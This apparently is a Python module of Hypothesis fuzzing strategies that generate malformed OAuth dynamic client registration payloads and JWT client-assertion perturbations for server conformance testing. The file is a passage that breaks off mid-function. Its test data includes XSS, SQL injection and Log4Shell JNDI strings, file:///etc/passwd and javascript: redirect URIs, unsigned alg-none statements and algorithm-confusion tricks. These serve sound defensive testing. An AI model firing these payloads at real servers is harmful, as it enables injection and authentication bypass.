"""Hypothesis strategies: RFC 7591 registration payloads and RFC 7523 assertion perturbations.

Registration payloads (:func:`registration_payloads`, :func:`profile_registration_payloads`)
start from the profile's request (the template's ``{"software_id": <template>}``, what the HAAPI
SDK sends, plus the ``[registration]`` metadata; for a server without templates that metadata
alone) and add up to four *mutations*, one
per field group, over every RFC 7591 §2 member: ``redirect_uris``, ``token_endpoint_auth_method``,
``grant_types``, ``response_types``, ``client_name``, ``client_uri``, ``logo_uri``, ``scope``,
``contacts``, ``tos_uri``, ``policy_uri``, ``jwks_uri``, ``jwks``, ``software_id``,
``software_version``, ``software_statement``, plus members the client must not choose
(``client_id``, ``client_secret``, ...) and unknown extension members. Most payloads change one
member (the most telling failures); one in seven is not a JSON object at all (:class:`RawBody`:
truncated, garbage, non-object JSON, lenient JSON dialects, wrong media types, deep nesting,
invalid UTF-8). The weights were tuned so that each registration defect of the reference server
in this domain is caught by every one of 40 random runs of the default budget.

A strategy only says *what it did* (``Mutation.fault``: ``"outside-template"``, ``"type"``,
``"syntax"`` ...; the vocabulary is :mod:`conformance.oracles.registration_faults`); what the
server must answer is decided by :mod:`conformance.oracles.registration`.
Simple variants come first in every list, so shrinking ends on the plainest failing payload.

Assertion perturbations (:func:`assertion_cases`) likewise describe a change to a valid client
assertion (a claim offset, an ``aud`` variant, an ``alg`` trick, a broken signature ...);
:mod:`conformance.fuzz.assertion_requests` builds the request and
:mod:`conformance.oracles.client_assertion` judges it.
"""

from __future__ import annotations

import json
import string
from dataclasses import dataclass
from typing import Any, Iterable
from urllib.parse import urlsplit, urlunsplit

from cryptography.hazmat.primitives.asymmetric import ec
from hypothesis import strategies as st

from conformance.client.fields import OMIT
from conformance.client.jose import b64url, public_jwk, sign_jws
from conformance.client.registration import registration_body
from conformance.oracles.client_assertion import Perturbation
from conformance.oracles.registration_faults import (CONFLICT, DEEP, ENCODING, FIELD_OK, LENIENT, MEDIA_TYPE,
                                                     NOT_JSON, NOT_OBJECT, NULL, ODD, OMITTED, OUTSIDE,
                                                     SERVER_MANAGED, SYNTAX, TYPE, UNKNOWN, Mutation, Payload,
                                                     RawBody)
from conformance.vocabulary import REGISTRABLE_AUTH_METHODS

# ---------------------------------------------------------------------------------- payloads

#: Members RFC 7591, RFC 7592, OpenID Connect registration, RFC 8705, RFC 9449 and Curity use;
#: generated "unknown" members never take one of these names.
KNOWN_MEMBERS = frozenset({
    "redirect_uris", "token_endpoint_auth_method", "grant_types", "response_types", "client_name",
    "client_uri", "logo_uri", "scope", "contacts", "tos_uri", "policy_uri", "jwks_uri", "jwks",
    "software_id", "software_version", "software_statement", "client_id", "client_secret",
    "client_id_issued_at", "client_secret_expires_at", "registration_access_token",
    "registration_client_uri", "token_endpoint_auth_signing_alg", "application_type",
    "sector_identifier_uri", "subject_type", "id_token_signed_response_alg", "default_max_age",
    "require_auth_time", "initiate_login_uri", "request_uris", "post_logout_redirect_uris",
    "tls_client_auth_subject_dn", "tls_client_certificate_bound_access_tokens",
    "dpop_bound_access_tokens", "token_endpoint_auth_methods", "access_token_ttl",
    "refresh_token_ttl", "require_proof_key", "status",
})

GRANT_TYPES = ("authorization_code", "implicit", "password", "client_credentials", "refresh_token",
               "urn:ietf:params:oauth:grant-type:jwt-bearer", "urn:ietf:params:oauth:grant-type:device_code",
               "urn:ietf:params:oauth:grant-type:token-exchange", "x-fuzz-grant")
RESPONSE_TYPES = ("code", "token", "id_token", "code id_token", "none", "x-fuzz-response")
OUTSIDE_SCOPES = ("openid", "dcr", "admin", "offline_access", "urn:se:curity:scopes:admin", "sköpe")


def _pick(*options: st.SearchStrategy) -> st.SearchStrategy:
    """One of ``options``, each as likely as the others (``st.one_of`` flattens nested choices
    and merges duplicates, so a field with many wrong-type variants would crowd out the rest);
    repeating an option weights it. Shrinks towards the first option."""
    return st.sampled_from(options).flatmap(lambda strategy: strategy)


def _word(alphabet: str, min_size: int, max_size: int, prefix: str = "") -> st.SearchStrategy[str]:
    """``prefix`` and then ``min_size``..``max_size`` characters of ``alphabet``: the language of the
    regex ``prefix[alphabet]{min,max}``, drawn as one string (``st.from_regex`` draws a regex's
    parse tree per example, several times the cost)."""
    words = st.text(alphabet=alphabet, min_size=min_size, max_size=max_size)
    return words.map(prefix.__add__) if prefix else words


_LOWER_DIGITS = string.ascii_lowercase + string.digits
#: Host names for generated e-mail addresses: one or two labels of letters, digits and inner
#: hyphens (RFC 1035 §2.3.1) under a few top-level domains. Hypothesis' ``domains()`` draws each
#: name by building and validating new strategies (a sixth of the generator's time with it).
_DOMAINS = st.builds(
    lambda labels, tld: ".".join([*labels, tld]),
    st.lists(st.builds(lambda first, rest: (first + rest).rstrip("-") or first, st.sampled_from(_LOWER_DIGITS),
                       _word(_LOWER_DIGITS + "-", 0, 15)), min_size=1, max_size=2),
    st.sampled_from(["example", "com", "org", "test", "io", "xn--p1ai"]))


def _m(group: str, field: str, value: Any, fault: str, note: str) -> Mutation:
    return Mutation(group, field, ((field, value),), fault, note)


# -- JSON values ----------------------------------------------------------------------------

_SCALARS = (st.none() | st.booleans() | st.integers(-(10 ** 20), 10 ** 20)
            | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=12))
JSON_VALUES = st.recursive(_SCALARS, lambda inner: st.lists(inner, max_size=3)
                           | st.dictionaries(st.text(max_size=8), inner, max_size=3), max_leaves=8)
NESTED = st.one_of(
    st.dictionaries(st.text(max_size=8), JSON_VALUES, min_size=0, max_size=3),
    st.lists(JSON_VALUES, min_size=1, max_size=3).filter(lambda xs: not all(isinstance(x, str) for x in xs)),
)


def _wrong_for_string(example: str) -> st.SearchStrategy[tuple[Any, str]]:
    """Values of the wrong JSON type for a string member."""
    return st.one_of(
        st.just(([example], "an array instead of a string")),
        st.just(({"value": example}, "an object instead of a string")),
        st.integers(-(10 ** 20), 10 ** 20).map(lambda v: (v, "a number instead of a string")),
        st.booleans().map(lambda v: (v, "a boolean instead of a string")),
        NESTED.map(lambda v: (v, "a nested value instead of a string")),
    )


def _wrong_for_array(example: str) -> st.SearchStrategy[tuple[Any, str]]:
    """Values of the wrong JSON type for an array-of-strings member."""
    return st.one_of(
        st.just((example, "a string instead of an array")),
        st.just(([[example]], "an array of arrays")),
        st.just(({"0": example}, "an object instead of an array")),
        st.just(([example, 1], "an array holding a number")),
        st.just(([None], "an array holding null")),
        st.integers().map(lambda v: (v, "a number instead of an array")),
        st.booleans().map(lambda v: (v, "a boolean instead of an array")),
        NESTED.map(lambda v: (v if isinstance(v, dict) else [example, v], "a nested value in an array member")),
    )


def _typed(group: str, field: str, wrong: st.SearchStrategy[tuple[Any, str]]) -> st.SearchStrategy[Mutation]:
    typed = wrong.map(lambda pair: _m(group, field, pair[0], TYPE, f"{field}: {pair[1]}"))
    return _pick(typed, typed, typed, st.just(_m(group, field, None, NULL, f"{field}: null")))


def _nonempty_subsets(values: Iterable[str]) -> st.SearchStrategy[list[str]]:
    values = list(values)
    return st.lists(st.sampled_from(values), min_size=1, max_size=len(values), unique=True)


HUGE_TEXT = st.builds(lambda unit, n: (unit * n)[:20_000], st.text(min_size=1, max_size=4),
                      st.integers(min_value=512, max_value=8_000))
ODD_TEXT = st.sampled_from([
    "\u0000", "line\nbreak", "\u202eevil\u202c", "\ud800", "\udfff\ud800", "🙂" * 40, "\ufeffbom",
    "<script>alert(1)</script>", "' OR '1'='1", "${jndi:ldap://x.example/a}", "%00%0d%0a", "\\u0000",
])


def _text_field(field: str) -> st.SearchStrategy[Mutation]:
    return _pick(
        st.text(min_size=1, max_size=40).map(lambda v: _m(field, field, v, FIELD_OK, f"{field}: text")),
        st.text(max_size=40).map(lambda v: _m(field, field, v, ODD, f"{field}: unicode text")),
        ODD_TEXT.map(lambda v: _m(field, field, v, ODD, f"{field}: unusual characters")),
        HUGE_TEXT.map(lambda v: _m(field, field, v, ODD, f"{field}: a huge string")),
        _typed(field, field, _wrong_for_string("x")),
    )


def _uri_field(field: str) -> st.SearchStrategy[Mutation]:
    bad = st.sampled_from(["not a uri", "/relative/page", "javascript:alert(1)", "http://app.example/page",
                           "https://app.example/page#frag", "", "https://[::1", "data:text/html,<b>x</b>"])
    return _pick(
        _word(_LOWER_DIGITS + "/_-", 0, 20).map(
            lambda path: _m(field, field, f"https://app.example/{path}", FIELD_OK, f"{field}: an https URL")),
        bad.map(lambda v: _m(field, field, v, SYNTAX, f"{field}: not an https URL")),
        HUGE_TEXT.map(lambda v: _m(field, field, "https://app.example/" + v, ODD, f"{field}: a huge URL")),
        _typed(field, field, _wrong_for_string("https://app.example/")),
    )


def _contacts() -> st.SearchStrategy[Mutation]:
    field = "contacts"
    return _pick(
        st.lists(st.emails(domains=_DOMAINS), min_size=1, max_size=3).map(lambda v: _m(field, field, v, FIELD_OK, "contacts: e-mail addresses")),
        st.just(_m(field, field, [], ODD, "contacts: empty")),
        st.lists(st.text(max_size=30), min_size=1, max_size=4).map(lambda v: _m(field, field, v, ODD, "contacts: any strings")),
        st.integers(200, 600).map(lambda n: _m(field, field, [f"ops{i}@app.example" for i in range(n)], ODD,
                                               "contacts: hundreds of addresses")),
        _typed(field, field, _wrong_for_array("ops@app.example")),
    )


def _redirect_uris(template, sent: tuple[str, ...] = ()) -> st.SearchStrategy[Mutation]:
    field = "redirect_uris"
    allowed = list(template.redirect_uris or sent or ())
    first = allowed[0] if allowed else "https://app.example/callback"
    parts = urlsplit(first)
    host_path = urlunsplit(("", parts.netloc or "app.example", parts.path or "/callback", "", ""))
    declared = template.redirect_uris is not None
    outside = OUTSIDE if declared else ODD
    bad = [
        ("/callback", SYNTAX, "a relative redirect URI"),
        ("callback", SYNTAX, "a relative redirect URI without a slash"),
        ("//app.example/callback", SYNTAX, "a scheme-relative redirect URI"),
        (first + "#fragment", SYNTAX, "a redirect URI with a fragment"),
        (first + "#", SYNTAX, "a redirect URI with an empty fragment"),
        ("http:" + host_path, outside, "a non-https redirect URI"),
        ("http://localhost:8080/callback", outside, "a plain-http loopback redirect URI"),
        ("https://evil.example/callback", outside, "a foreign redirect URI"),
        (first.rstrip("/") + "/../evil", outside, "a redirect URI with a path traversal"),
        (first + ("&" if "?" in first else "?") + "next=https://evil.example", outside,
         "a redirect URI with a query added"),
        ("https://user:secret@" + host_path.lstrip("/"), outside, "a redirect URI with userinfo"),
        ("com.evil.app:/callback", outside, "a custom-scheme redirect URI of another app"),
        ("javascript:alert(1)", SYNTAX, "a javascript: redirect URI"),
        ("data:text/html,<script>alert(1)</script>", SYNTAX, "a data: redirect URI"),
        ("file:///etc/passwd", SYNTAX, "a file: redirect URI"),
        ("", SYNTAX, "an empty redirect URI"),
        (" " + first, SYNTAX, "a redirect URI with leading whitespace"),
        ("https://exämple.test/callback", outside, "a redirect URI with a unicode host"),
        ("https://[::1/callback", SYNTAX, "a malformed redirect URI"),
        ("https://app.example/\u0000", SYNTAX, "a redirect URI with a NUL character"),
    ]
    bad_mutations = st.tuples(st.sampled_from(bad), st.lists(st.sampled_from(allowed or [first]), max_size=2)).map(
        lambda pair: _m(field, field, [*dict.fromkeys([*pair[1], pair[0][0]])], pair[0][1], pair[0][2]))
    choices = [bad_mutations, bad_mutations]
    if allowed:
        choices.insert(0, _nonempty_subsets(allowed).map(lambda v: _m(field, field, v, FIELD_OK, "redirect URIs of the template")))
    choices += [
        HUGE_TEXT.map(lambda v: _m(field, field, [first + "?" + v], outside, "a huge redirect URI")),
        st.just(_m(field, field, [], ODD, "no redirect URI")),
        _typed(field, field, _wrong_for_array(first)),
    ]
    return _pick(*choices)


def _types(template) -> st.SearchStrategy[Mutation]:
    """grant_types and response_types, alone or together (RFC 7591 §2.1 pairs them)."""
    grants = list(template.grant_types or ())
    responses = list(template.response_types or ())

    def judged(g: list[str] | None, r: list[str] | None, note: str) -> Mutation:
        members, inside = [], True
        if g is not None:
            members.append(("grant_types", g))
            inside &= bool(grants) and set(g) <= set(grants)
        if r is not None:
            members.append(("response_types", r))
            inside &= bool(responses) and set(r) <= set(responses)
        declared = (g is None or template.grant_types is not None) and (r is None or template.response_types is not None)
        fault = FIELD_OK if inside else (OUTSIDE if declared else ODD)
        field = "grant_types" if g is not None else "response_types"
        return Mutation("types", field, tuple(members), fault, note)

    outside_g = [g for g in GRANT_TYPES if g not in grants] or ["x-fuzz-grant"]
    outside_r = [r for r in RESPONSE_TYPES if r not in responses] or ["x-fuzz-response"]
    contradictions = [  # RFC 7591 §2.1: the grant type each response type needs, broken
        (["implicit"], ["code"]), (["authorization_code"], ["token"]), (["client_credentials"], ["token"]),
        (["authorization_code"], []), ([], ["code"]), (["password"], ["id_token"]), (["implicit"], ["none"]),
    ]
    choices = []
    if grants:
        choices.append(_nonempty_subsets(grants).map(lambda g: judged(g, None, "grant types of the template")))
    if responses:
        choices.append(_nonempty_subsets(responses).map(lambda r: judged(None, r, "response types of the template")))
    choices += [
        st.tuples(st.sampled_from(outside_g), st.lists(st.sampled_from(grants or ["client_credentials"]), max_size=1)).map(
            lambda p: judged([*dict.fromkeys([*p[1], p[0]])], None, f"grant type {p[0]!r} beyond the template")),
        st.sampled_from(outside_r).map(lambda r: judged(None, [r], f"response type {r!r} beyond the template")),
        st.sampled_from(contradictions).map(lambda p: judged(p[0], p[1], "grant and response types that contradict each other")),
        st.just(judged([], None, "no grant type")),
        st.just(judged(None, [], "no response type")),
        _typed("types", "grant_types", _wrong_for_array("client_credentials")),
        _typed("types", "response_types", _wrong_for_array("code")),
    ]
    return _pick(*choices)


def _scope(template) -> st.SearchStrategy[Mutation]:
    field = "scope"
    allowed = (template.scope or "").split()
    declared = template.scope is not None
    outside = OUTSIDE if declared else ODD
    choices = []
    if allowed:
        choices += [
            st.just(_m(field, field, template.scope, FIELD_OK, "the template's scope")),
            _nonempty_subsets(allowed).map(lambda s: _m(field, field, " ".join(s), FIELD_OK, "scopes of the template")),
            _nonempty_subsets(allowed).map(lambda s: _m(field, field, " ".join(s + s), ODD, "repeated scopes of the template")),
            st.just(_m(field, field, "  " + template.scope + "  ", ODD, "the template's scope with extra spaces")),
        ]
    beyond = st.tuples(st.sampled_from(OUTSIDE_SCOPES), st.booleans()).map(
        lambda p: _m(field, field, " ".join([*(allowed if p[1] else []), p[0]]), outside,
                     f"scope {p[0]!r} beyond the template"))
    generated = st.builds(str.__add__, st.sampled_from(string.ascii_lowercase),
                          _word(_LOWER_DIGITS + ":._-", 0, 24)).filter(lambda s: s not in allowed).map(
        lambda s: _m(field, field, " ".join([*allowed, s]), outside, "a generated scope beyond the template"))
    choices += [
        beyond,
        generated,
        st.sampled_from(['a"b', "a\\b", "\u0000", "tab\tscope"]).map(
            lambda s: _m(field, field, s, SYNTAX, "a scope token with characters RFC 6749 §3.3 forbids")),
        beyond,
        st.just(_m(field, field, "", ODD, "an empty scope")),
        HUGE_TEXT.map(lambda v: _m(field, field, v, outside, "a huge scope")),
        generated,
        _typed(field, field, _wrong_for_string(template.scope or "openid")),
    ]
    return _pick(*choices)


def _auth_method(template, own: str | None = None) -> st.SearchStrategy[Mutation]:
    """The method the app asks for, another the template allows (RFC 7591 §2: the client may
    choose), one beyond the template (or, without a template, one the server may not support)."""
    field = "token_endpoint_auth_method"
    own = own or template.token_endpoint_auth_method
    declared = template.software_id is not None
    allowed = [m for m in template.allowed_auth_methods if m != own] if declared else []
    others = [m for m in REGISTRABLE_AUTH_METHODS if m != own and m not in allowed]
    choices = [st.just(_m(field, field, own, FIELD_OK, "the authentication method the app asks for"))]
    if allowed:
        choices.append(st.sampled_from(allowed).map(
            lambda v: _m(field, field, v, FIELD_OK, f"authentication method {v!r}, another the template allows")))
    return _pick(
        *choices,
        st.sampled_from(others).map(lambda v: _m(field, field, v, OUTSIDE if declared else ODD,
                                                 f"authentication method {v!r} beyond the template" if declared
                                                 else f"authentication method {v!r}")),
        st.sampled_from(["x-fuzz-auth", "", own.upper(), own + " "]).map(
            lambda v: _m(field, field, v, SYNTAX, "an unknown authentication method")),
        _typed(field, field, _wrong_for_string(own)),
    )


_FUZZ_KEY = ec.generate_private_key(ec.SECP256R1())
PUBLIC_JWK = public_jwk(_FUZZ_KEY, kid="fuzz-key", alg="ES256")
PRIVATE_JWK = {**PUBLIC_JWK, "d": b64url(_FUZZ_KEY.private_numbers().private_value.to_bytes(32, "big"))}


def private_key_for(jwks: object) -> ec.EllipticCurvePrivateKey | None:
    """The private key of a JWK Set the strategies sent (every key is :data:`PUBLIC_JWK`), else None:
    a client the server bound to the device's keys then authenticates with it."""
    keys = jwks.get("keys") if isinstance(jwks, dict) else None
    return _FUZZ_KEY if isinstance(keys, list) and keys and all(k == PUBLIC_JWK for k in keys) else None


def _keys(template, device_jwks: bool | None = None) -> st.SearchStrategy[Mutation]:
    """jwks and jwks_uri. When the request carries the device key (``private_key_jwt``,
    ``[registration] device_jwks``) the session registers it as jwks itself, so only jwks_uri is
    added (making the request carry both)."""
    uri = "https://app.example/jwks.json"
    both = Mutation("keys", "jwks", (("jwks", {"keys": [PUBLIC_JWK]}), ("jwks_uri", uri)), CONFLICT,
                    "jwks together with jwks_uri (RFC 7591 §2: MUST NOT)")
    if device_jwks is None:
        device_jwks = template.token_endpoint_auth_method == "private_key_jwt"
    if device_jwks:
        return st.just(Mutation("keys", "jwks", (("jwks_uri", uri),), CONFLICT,
                                "jwks_uri added to the device's jwks (RFC 7591 §2: MUST NOT)"))
    return _pick(
        st.just(_m("keys", "jwks", {"keys": [PUBLIC_JWK]}, ODD, "a public jwks for a secret-based client")),
        st.just(_m("keys", "jwks_uri", uri, ODD, "a jwks_uri for a secret-based client")),
        st.just(both),
        st.just(both),
        st.just(_m("keys", "jwks", {"keys": [PRIVATE_JWK]}, SYNTAX, "a jwks holding a private key")),
        st.sampled_from([{"keys": []}, {"keys": "x"}, {"keys": [{"kty": "EC"}]}, {"keys": [{"kty": "oct", "k": "AAAA"}]},
                         {"keys": [PUBLIC_JWK] * 50}]).map(lambda v: _m("keys", "jwks", v, SYNTAX, "a malformed jwks")),
        st.sampled_from(["http://app.example/jwks.json", "/jwks.json", "", "javascript:alert(1)"]).map(
            lambda v: _m("keys", "jwks_uri", v, SYNTAX, "a jwks_uri that is not an https URL")),
        _typed("keys", "jwks", _pick(st.just(([PUBLIC_JWK], "an array instead of a JWK Set")),
                                         st.just(("keys", "a string instead of a JWK Set")),
                                         st.integers().map(lambda v: (v, "a number instead of a JWK Set")))),
        _typed("keys", "jwks_uri", _wrong_for_string(uri)),
    )


def _software_id(template) -> st.SearchStrategy[Mutation]:
    """Without a template ``software_id`` is plain RFC 7591 §2 metadata: any string may be kept."""
    field = "software_id"
    own = template.software_id
    if own is None:
        return _pick(
            st.sampled_from(["dcr-fuzz-app", "", "no-such-template"]).map(
                lambda v: _m(field, field, v, ODD, "a software_id (the server names no templates)")),
            _typed(field, field, _wrong_for_string("dcr-fuzz-app")),
        )
    unknown = [("no-such-template", "an unknown software_id"), (own + " ", "the software_id with a trailing space"),
               (own.upper() if own.upper() != own else own + "X", "the software_id in another case"),
               ("", "an empty software_id")]
    if template.unauthorized_software_id:
        unknown.append((template.unauthorized_software_id, "a template that does not name this main client"))
    return _pick(
        st.just(Mutation(field, field, ((field, OMIT),), OMITTED, "no software_id")),
        st.sampled_from(unknown).map(lambda p: _m(field, field, p[0], OUTSIDE, p[1])),
        _typed(field, field, _wrong_for_string(own)),
    )


def _software_statement() -> st.SearchStrategy[Mutation]:
    field = "software_statement"
    unsigned = b64url(b'{"alg":"none"}') + "." + b64url(json.dumps({"software_id": "evil"}).encode()) + "."
    signed = sign_jws({"alg": "ES256", "typ": "JWT"}, {"software_id": "evil", "iss": "https://evil.example"},
                      _FUZZ_KEY, "ES256")
    return _pick(
        st.sampled_from([("garbage", "a garbage software_statement"), ("a.b.c", "a software_statement that is not base64url JSON"),
                         (unsigned, "an unsigned software_statement (alg none)"),
                         (signed, "a software_statement signed by an unknown key"),
                         ("", "an empty software_statement")]).map(lambda p: _m(field, field, p[0], SYNTAX, p[1])),
        _typed(field, field, _wrong_for_string(unsigned)),
    )


def _server_managed() -> st.SearchStrategy[Mutation]:
    values = [("client_id", "dcr-fuzz-chosen-client-id"), ("client_secret", "dcr-fuzz-chosen-client-secret"),
              ("registration_access_token", "dcr-fuzz-chosen-registration-token"),
              ("registration_client_uri", "https://evil.example/clients/x"), ("client_id_issued_at", 0),
              ("client_secret_expires_at", 1)]
    return st.sampled_from(values).map(lambda p: Mutation(
        "server-managed", p[0], ((p[0], p[1]),), SERVER_MANAGED, f"{p[0]} chosen by the client"))


_NEAR_MISS = ["redirect_uri", "scopes", "grant_type", "response_type", "clientName", "Scope", "jwk"]


def _unknown() -> st.SearchStrategy[Mutation]:
    names = st.one_of(
        _word(_LOWER_DIGITS + "_", 0, 10, prefix="x_fuzz_"),
        st.text(min_size=1, max_size=12).map(lambda s: "ext-" + s),
        st.sampled_from(_NEAR_MISS),
    ).filter(lambda n: n not in KNOWN_MEMBERS)
    evil = st.sampled_from(["https://evil.example/cb", "dcr admin", "password", ["https://evil.example/cb"]])
    return st.tuples(names, st.one_of(JSON_VALUES, evil)).map(lambda p: Mutation(
        "unknown:" + p[0], p[0], ((p[0], p[1]),), UNKNOWN, f"unknown member {p[0]!r}"))


def mutations(template, *, method: str | None = None, body: dict[str, Any] | None = None,
              device_jwks: bool | None = None) -> st.SearchStrategy[Mutation]:
    """One mutation of any group; the groups with a MUST of their own (the template's scope, grant
    and response types, redirect URIs and authentication method; jwks with jwks_uri) are drawn
    three times as often as the others. ``method``, ``body`` and ``device_jwks``: what the app's
    request holds (default: the template's)."""
    sent = tuple((body or {}).get("redirect_uris") or ())
    core = [_redirect_uris(template, sent), _types(template), _scope(template), _auth_method(template, method),
            _keys(template, device_jwks)]
    others = [_software_id(template), _software_statement(), _text_field("client_name"),
              _text_field("software_version"), _uri_field("client_uri"), _uri_field("logo_uri"),
              _uri_field("tos_uri"), _uri_field("policy_uri"), _contacts(), _server_managed(), _unknown(), _unknown()]
    return _pick(*core, *others, *core, *core)


def _with_member(base: str, member: str) -> str:
    """``base`` (a JSON object's text) with ``member`` (``"name": value`` text) added last."""
    return base[:-1] + (", " if base.strip() != "{}" else "") + member + "}"


def _default_body(template) -> dict[str, Any]:
    return {"software_id": template.software_id} if template.software_id is not None else {}


def raw_bodies(template, body: dict[str, Any] | None = None) -> st.SearchStrategy[RawBody]:
    """Bodies that are not the JSON object ``body`` (default: the template's request) in one way."""
    body = _default_body(template) if body is None else body
    base = json.dumps(body)
    first = next(iter(body), "software_id")
    ctype = "application/json"
    form = "&".join(f"{k}={v if isinstance(v, str) else json.dumps(v)}" for k, v in body.items())

    def not_json_object(data: bytes) -> bool:
        try:
            return not isinstance(json.loads(data), dict)
        except (ValueError, UnicodeDecodeError, RecursionError):
            return True

    lenient = [
        (base.replace('"', "'") if body else "{'x_fuzz': 'x'}", "single quotes (JSON5)"),
        (base[:-1] + ",}" if body else '{"x_fuzz": 1,}', "a trailing comma"),
        ("{x_fuzz: 1" + (", " + base[1:] if body else "}"), "an unquoted member name"),
        (base + " trailing", "text after the object"),
        (base[:-1] + " /* comment */}", "a comment"),
        (_with_member(base, '"x_fuzz": NaN'), "NaN"),
        (_with_member(base, '"x_fuzz": -Infinity'), "-Infinity"),
        (_with_member(base, '"x_fuzz": 01'), "a number with a leading zero"),
        ('\ufeff' + base, "a byte order mark"),
        (_with_member(base, f'"{first}": "no-such-template"'), "a duplicated member"),
    ]
    return _pick(
        st.integers(0, len(base) - 1).map(lambda k: RawBody(base[:k].encode(), ctype, NOT_JSON, "truncated JSON")),
        st.binary(min_size=1, max_size=48).filter(not_json_object).map(
            lambda b: RawBody(b, ctype, NOT_JSON, "garbage bytes")),
        st.sampled_from(["[]", "null", "1", '"x-fuzz"', "true", "[" + base + "]"]).map(
            lambda b: RawBody(b.encode(), ctype, NOT_OBJECT, "JSON that is not an object")),
        st.sampled_from(lenient).map(lambda p: RawBody(p[0].encode("utf-8"), ctype, LENIENT, f"not JSON: {p[1]}")),
        st.integers(200, 20_000).map(lambda n: RawBody(
            _with_member(base, '"x_fuzz": ' + "[" * n + "]" * n).encode(), ctype, DEEP,
            f"an unknown member nested {n} levels deep")),
        st.just(RawBody(_with_member(base, '"client_name": "@@"').encode().replace(b"@@", b"\xff\xfe\xc3"), ctype,
                        ENCODING, "invalid UTF-8")),
        st.just(RawBody(base.encode("utf-16"), ctype, ENCODING, "UTF-16")),
        st.sampled_from([("text/plain", base), (None, base), ("application/x-www-form-urlencoded", form),
                         ("application/json; charset=utf-8", base), ("Application/JSON", base),
                         ("application/jsonx", base), ("multipart/form-data; boundary=x", base)]).map(
            lambda p: RawBody(p[1].encode(), p[0], MEDIA_TYPE, f"media type {p[0]!r}")),
    )


#: Strategies built, by what they were built from (:func:`registration_payloads`).
_BUILT: dict[tuple, st.SearchStrategy[Payload]] = {}


def registration_payloads(template, *, method: str | None = None, body: dict[str, Any] | None = None,
                          device_jwks: bool | None = None) -> st.SearchStrategy[Payload]:
    """Registration attempts on top of the app's request (``body``; default: the template's):
    half of them change one member (the most telling failures), two in seven change two to
    four, one in seven is not a JSON object. The same arguments give the same strategy object,
    so what Hypothesis sets up on a strategy's first draws is done once per process."""
    try:
        key = (template, method, None if body is None else json.dumps(body, sort_keys=True, default=repr), device_jwks)
        hash(key)
    except TypeError:  # an unhashable template: built each time
        return _registration_payloads(template, method, body, device_jwks)
    if key not in _BUILT:
        if len(_BUILT) >= 32:
            _BUILT.clear()
        _BUILT[key] = _registration_payloads(template, method, body, device_jwks)
    return _BUILT[key]


def _registration_payloads(template, method: str | None, body: dict[str, Any] | None,
                           device_jwks: bool | None) -> st.SearchStrategy[Payload]:
    one = mutations(template, method=method, body=body, device_jwks=device_jwks)
    single = one.map(lambda m: Payload((m,)))

    @st.composite
    def one_mutation(draw: st.DrawFn) -> Mutation:
        return draw(one)

    # Through a composite, whose repr is its name: a unique list that draws a repeated group
    # again records an event naming its element strategy, and the repr of ``one``'s whole tree
    # (lambda sources parsed) cost 37 ms of a process's first draws (``deferred`` did not help:
    # once resolved, its repr is the tree's).
    several = st.lists(one_mutation(), min_size=2, max_size=4, unique_by=lambda m: m.group).map(
        lambda ms: Payload(tuple(ms)))
    raw = raw_bodies(template, body).map(lambda r: Payload(raw=r))
    return _pick(single, several, single, several, single, raw, single)


def profile_registration_payloads(profile) -> st.SearchStrategy[Payload]:
    """:func:`registration_payloads` on top of the profile's own registration request (its
    template, its ``[registration]`` body, the method it asks for, its device key)."""
    return registration_payloads(profile.template, method=profile.dynamic_auth_method,
                                 body=registration_body(profile), device_jwks=profile.sends_device_jwks)


# ---------------------------------------------------------------------------- assertions


@dataclass(frozen=True)
class AssertionCase:
    """A main client (by label) and the perturbations of its assertion."""

    label: str
    perturbations: tuple[Perturbation, ...] = ()

    def describe(self) -> str:
        changes = ", ".join(map(repr, self.perturbations)) or "none (a valid assertion)"
        return f"main client {self.label!r}, perturbations: {changes}"


_NON_NUMBERS = st.sampled_from(["1700000000", True, None, {"t": 1}, [1]])


def _time_claim(name: str, ranges: list[tuple[int, int]], *, weigh: int | None = None) -> st.SearchStrategy[Perturbation]:
    """``name`` omitted, at an offset from now in one of ``ranges`` (the first as a float too),
    not a number, or an absolute date; ``weigh`` draws that range twice as often."""
    offsets = [st.integers(lo, hi).map(lambda n: Perturbation(name, "offset", n)) for lo, hi in ranges]
    extra = [offsets[weigh]] if weigh is not None else []
    return _pick(
        st.just(Perturbation(name, "omit")),
        *offsets,
        st.floats(min_value=ranges[0][0], max_value=ranges[0][1]).map(lambda f: Perturbation(name, "offset", f)),
        _NON_NUMBERS.map(lambda v: Perturbation(name, "value", v)),
        st.sampled_from([1e300, -1.0, 0]).map(lambda v: Perturbation(name, "absolute", v)),
        *extra,
    )


def perturbations(method: str, alg: str) -> st.SearchStrategy[Perturbation]:
    """Every kind of change to one assertion of a ``method`` client signing with ``alg``; the
    kinds a server must refuse (expiry, audience, alg, signature, replay) are drawn twice as often."""
    family = {"RS256": "PS256", "PS256": "RS256", "HS256": "HS512"}.get(alg)
    algs = ["none", "header_mismatch", "unsupported", "lowercase", "none"]
    if method == "private_key_jwt":
        algs.append("hmac_with_public_key")
    if family:
        algs.append("same_family")
    exp = _time_claim("exp", [(10, 300), (-10 ** 8, -600), (-599, 9), (301, 10 ** 8)], weigh=1)
    aud = st.sampled_from(["token_endpoint", "issuer", "list_token_endpoint", "list_with_other", "other_url",
                           "trailing_slash", "uppercase", "empty", "omit", "number", "empty_list", "list_other"]).map(
        lambda v: Perturbation("aud", v))
    alg_change = st.sampled_from(algs).map(lambda v: Perturbation("alg", v))
    signature = st.sampled_from(["broken", "unknown_key", "truncated", "empty"]).map(lambda v: Perturbation("signature", v))
    replay = st.just(Perturbation("replay", "twice"))
    return _pick(
        exp,
        _time_claim("iat", [(-60, 0), (-10 ** 7, -61), (1, 10 ** 6)]),
        _time_claim("nbf", [(-10 ** 6, 0), (1, 599), (600, 10 ** 7)], weigh=2),
        aud,
        st.sampled_from(["other_client", "unknown", "omit", "number"]).map(lambda v: Perturbation("iss", v)),
        st.sampled_from(["other_client", "unknown", "omit", "number"]).map(lambda v: Perturbation("sub", v)),
        st.sampled_from(["other_client", "unknown"]).map(lambda v: Perturbation("iss_sub", v)),
        st.sampled_from(["omit", "long", "number", "empty"]).map(lambda v: Perturbation("jti", v)),
        alg_change,
        st.sampled_from(["omit", "unknown"]).map(lambda v: Perturbation("kid", v)),
        st.sampled_from(["omit", "JWT", "jwt", "dpop+jwt", "at+jwt", "x-fuzz"]).map(lambda v: Perturbation("typ", v)),
        signature,
        st.tuples(_word(string.ascii_lowercase, 1, 8, prefix="x_fuzz_"), JSON_VALUES).map(
            lambda p: Perturbation("header", p[0], p[1])),
